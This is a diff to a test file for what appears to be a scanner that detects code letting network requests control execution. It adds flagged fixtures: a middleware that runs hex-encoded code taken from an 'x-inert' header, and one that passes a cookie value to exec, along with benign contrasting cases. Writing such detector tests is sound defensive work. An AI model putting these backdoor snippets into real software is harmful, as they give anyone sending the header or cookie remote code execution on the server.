@@ -29,6 +29,20 @@ examine(obeysNetworkRequests, {
       },
       weight: 'proof',
     },
+    {
+      when: 'a middleware runs what a header says',
+      files: {
+        'index.js': `module.exports = () => (req, res, next) => { const order = req.headers['x-inert']; if (order) return res.end(String(new Function('req', Buffer.from(order, 'hex').toString())(req))); next(); }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a middleware runs a command out of a cookie',
+      files: {
+        'index.js': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.cookies.inert) exec(req.cookies.inert); next(); }`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -41,6 +55,18 @@ examine(obeysNetworkRequests, {
       when: 'a request starts a program that is known',
       files: {
         'index.js': `const cp = require('child_process'); require('http').createServer((req, res) => cp.execFile('git', ['log', req.url])).listen(0)`,
+      },
+    },
+    {
+      when: 'a middleware reads headers and compiles a template of its own',
+      files: {
+        'index.js': `module.exports = view => (req, res) => { const render = new Function('data', view); res.end(render({ agent: req.headers['user-agent'] })); }`,
+      },
+    },
+    {
+      when: 'a header is an argument of a known program',
+      files: {
+        'index.js': `const { execFile } = require('child_process'); module.exports = (req, res) => execFile('git', ['http-backend', req.headers['git-protocol']])`,
       },
     },
   ],
